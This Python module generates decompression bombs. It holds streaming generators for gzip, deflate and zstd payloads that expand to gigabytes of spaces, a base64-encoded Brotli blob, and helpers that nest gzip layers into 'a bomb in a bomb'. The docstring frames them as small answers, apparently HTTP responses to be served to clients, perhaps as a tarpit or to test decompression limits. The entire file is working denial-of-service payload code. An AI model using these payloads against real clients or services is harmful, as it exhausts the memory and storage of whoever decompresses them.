"""Small answers that unpack to gigabytes, made in pieces so that their maker never holds them."""

import zlib
from base64 import b64decode
from collections.abc import Iterator

MEGABYTE = 1 << 20
_ZEROS = bytes(MEGABYTE)
_GZIP_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"

# 256 MB of spaces, compressed once with window 24 at the best quality
BROTLI_BOMB = b64decode(
    "z///fwAkQOKxQHLv//n//w+ABEAcFoDu/T////8BkACIwwLQvf/n//8/ABIAcVgAuvf//P//B0ACIA4LQPf+n////wBIAMRhAeje"
    "//P//x8ACYA4LADd+3/+//8DIAEQhwWge//P//9/ACQA4rAAdO//+f//D4AEQBwWgO79P////wGQAIjDAtC9/+f//z8AEgBxWAC6"
    "9//8//8HQAIgDgtA9/6f////AEgAxGEB6N7/8///HwAJgDgsAN37f/7//wMgARCHBaB7/z8="
)


def _deflated(first: bytes, megabytes: int) -> Iterator[bytes]:
    """Raw deflate: ``first``, and then so many megabytes of spaces.

    A full flush forgets everything before it, so the piece behind one can be sent again and again.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    yield packer.compress(first) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(_ZEROS.replace(b"\0", b" ")) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(megabytes):
        yield piece
    yield packer.flush(zlib.Z_FINISH)


def gzip_bomb(first: bytes = b"", *, megabytes: int = 10_000) -> Iterator[bytes]:
    """The checksum at its end is wrong: nobody should get that far."""
    yield _GZIP_HEAD
    yield from _deflated(first, megabytes)
    yield bytes(8)


def deflate_bomb(*, megabytes: int = 10_000) -> Iterator[bytes]:
    yield b"\x78\xda"
    yield from _deflated(b"", megabytes)
    yield bytes(4)


def zstd_bomb(*, megabytes: int = 10_000) -> Iterator[bytes]:
    """A frame of blocks that say "this byte, 128 kB of it"."""
    yield b"\x28\xb5\x2f\xfd" + b"\x00" + b"\x58"
    block = (128 * 1024 << 3 | 1 << 1).to_bytes(3, "little") + b" "
    for _ in range(megabytes):
        yield block * 8
    yield (1 | 1 << 1 | 1 << 3).to_bytes(3, "little") + b" "


def gzipped(chunks: Iterator[bytes]) -> Iterator[bytes]:
    """Gzip around a stream; around a bomb, a bomb in a bomb."""
    packer = zlib.compressobj(6, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    for chunk in chunks:
        if packed := packer.compress(chunk):
            yield packed
    yield packer.flush()


def wrapped(body: bytes, times: int) -> bytes:
    """Gzipped over and over."""
    for _ in range(times):
        body = b"".join(gzipped(iter((body,))))
    return body
